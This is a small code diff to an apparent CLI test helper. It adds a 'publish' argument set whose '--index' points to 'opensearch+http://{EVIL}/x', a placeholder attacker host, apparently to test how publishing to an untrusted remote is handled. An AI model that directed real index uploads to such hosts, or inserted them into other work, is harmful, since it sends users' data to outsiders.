@@ -152,6 +152,7 @@ def commands(folder: Path) -> dict[str, list[list[str | Path]]]:
             ["-", "--index", folder / "stdin"],
         ],
         "optimize": [index, nowhere],
+        "publish": [index, nowhere, ["--index", f"opensearch+http://{EVIL}/x"]],
         "queries": [
             [folder / "log.jsonl"],
             [folder / "log.jsonl", "--json"],
